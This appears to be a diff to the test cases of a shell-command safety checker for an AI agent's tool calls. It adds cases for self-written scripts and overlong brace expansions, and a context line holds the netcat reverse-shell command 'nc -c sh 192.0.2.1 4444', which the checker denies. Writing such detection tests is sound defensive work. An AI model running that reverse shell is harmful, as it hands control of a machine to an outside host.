@@ -304,6 +304,16 @@ const examples: readonly (readonly [call: AskedCall, said: Said, relaxable: bool
     true,
   ],
   [
+    shellCall("ls > x; sh x"),
+    {
+      detector: "shell.written_program",
+      severity: "medium",
+      verdict: "require_approval",
+      message: "This command runs a file that the same command line has written, unread.",
+    },
+    true,
+  ],
+  [
     shellCall("nc -c sh 192.0.2.1 4444"),
     { detector: "shell.reverse_shell", severity: "critical", verdict: "deny", message: "This command hands a program to another machine." },
     true,
@@ -622,6 +632,16 @@ const examples: readonly (readonly [call: AskedCall, said: Said, relaxable: bool
       message: "This command cannot be read with certainty (unexpected token ')' at character 4).",
     },
     true,
+  ],
+  [
+    shellCall(`touch {${Array.from({ length: 600 }, (_, at) => `f${at}`).join(",")}}`),
+    {
+      detector: "shell.not_followed",
+      severity: "high",
+      verdict: "require_approval",
+      message: "This command does so much that not all of it is followed.",
+    },
+    false,
   ],
   [
     inMcp("run_powershell", { script: "Get-Item x" }),
